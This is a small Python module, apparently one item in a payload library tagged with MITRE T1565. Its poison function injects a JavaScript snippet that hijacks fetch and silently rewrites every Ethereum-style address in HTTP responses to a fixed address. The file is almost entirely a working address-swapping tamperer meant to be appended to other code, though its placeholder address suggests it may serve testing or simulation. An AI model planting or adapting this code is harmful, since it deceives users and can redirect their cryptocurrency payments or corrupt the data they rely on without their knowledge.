# SPDX-License-Identifier: Apache-2.0
"""Replaces fetch, and changes what answers say."""

ATTACK = "T1565"
LANGUAGE = "node"
CODE = r""";(() => {
  if (typeof globalThis.fetch !== 'function') return;
  const plain = globalThis.fetch;
  globalThis.fetch = async function (...args) {
    const res = await plain.apply(this, args);
    const text = await res.clone().text();
    const swapped = text.replace(/\b0x[a-fA-F0-9]{40}\b/g, '0x0000000000000000000000000000000000000bad');
    return new Response(swapped, { status: res.status, headers: res.headers });
  };
})();
"""


def poison(layer):
    layer.append(CODE)
